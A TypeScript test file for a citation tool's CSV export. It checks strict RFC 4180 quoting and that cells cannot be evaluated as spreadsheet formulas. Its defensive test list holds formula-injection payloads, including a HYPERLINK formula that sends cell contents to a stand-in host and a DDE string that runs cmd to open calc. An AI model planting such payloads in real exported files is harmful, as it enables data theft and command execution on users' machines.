// The table for spreadsheets: every value in its cell, none of them computed.
import { describe, expect, it } from 'vitest';
import { csvCell } from '../../src/citation/csv.ts';
import { exportCitations } from '../../src/citation/export.ts';
import type { Citation } from '../../src/citation/types.ts';
import { citation, withItem } from './facts.ts';

/** RFC 4180, read strictly. */
function parsed(text: string): string[][] {
  const rows: string[][] = [];
  for (let at = 0; at < text.length; ) {
    const row: string[] = [];
    for (;;) {
      const cell = /"((?:[^"]|"")*)"(,|\r\n)/y;
      cell.lastIndex = at;
      const found = cell.exec(text);
      if (found === null) throw new SyntaxError(`no cell at ${at}: ${text.slice(at, at + 20)}`);
      at = cell.lastIndex;
      row.push((found[1] ?? '').replace(/""/g, '"'));
      if (found[2] === '\r\n') break;
    }
    rows.push(row);
  }
  return rows;
}

async function table(...citations: Citation[]): Promise<Record<string, string>[]> {
  const { text } = await exportCitations(citations, 'csv');
  expect(text.startsWith('\uFEFF')).toBe(true);
  const [head = [], ...lines] = parsed(text.slice(1));
  return lines.map((line) => Object.fromEntries(head.map((name, i) => [name, line[i] ?? ''])));
}

describe('csv', () => {
  it('holds the citation and its evidence', async () => {
    const [row] = await table({ ...citation(), tags: ['ferry', 'quay'], note: 'for chapter 2' });
    expect(row).toMatchObject({
      title: 'Ferry line to reopen',
      authors: 'Ada Quill',
      outlet: 'Quay Post',
      published: '2021-02-07',
      accessed: '2026-03-01T09:30:00+02:00',
      url: 'https://quay-post.example/2021/02/07/ferry',
      tags: 'ferry; quay',
      note: 'for chapter 2',
      match_relation: 'identical',
      match_outlet: 'Harbour Gazette',
    });
  });

  it.each([
    '=HYPERLINK("http://x.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '＝1+1',
    '|calc',
    '\u0000=1',
  ])('does not let %j compute', async (text) => {
    expect(csvCell(text).slice(1, 2)).toBe("'");
    const [row] = await table({ ...withItem({ title: text }), note: text, tags: [text] });
    for (const value of Object.values(row ?? {})) expect(value).not.toMatch(/^\s*[=+\-@＝|]/);
  });

  it('keeps quotes, commas and lines within their cell', async () => {
    const title = 'He said "no", twice\nand left';
    expect(await table(withItem({ title }), withItem({}, 'two'))).toMatchObject([
      { title },
      { title: 'Ferry line to reopen' },
    ]);
  });
});
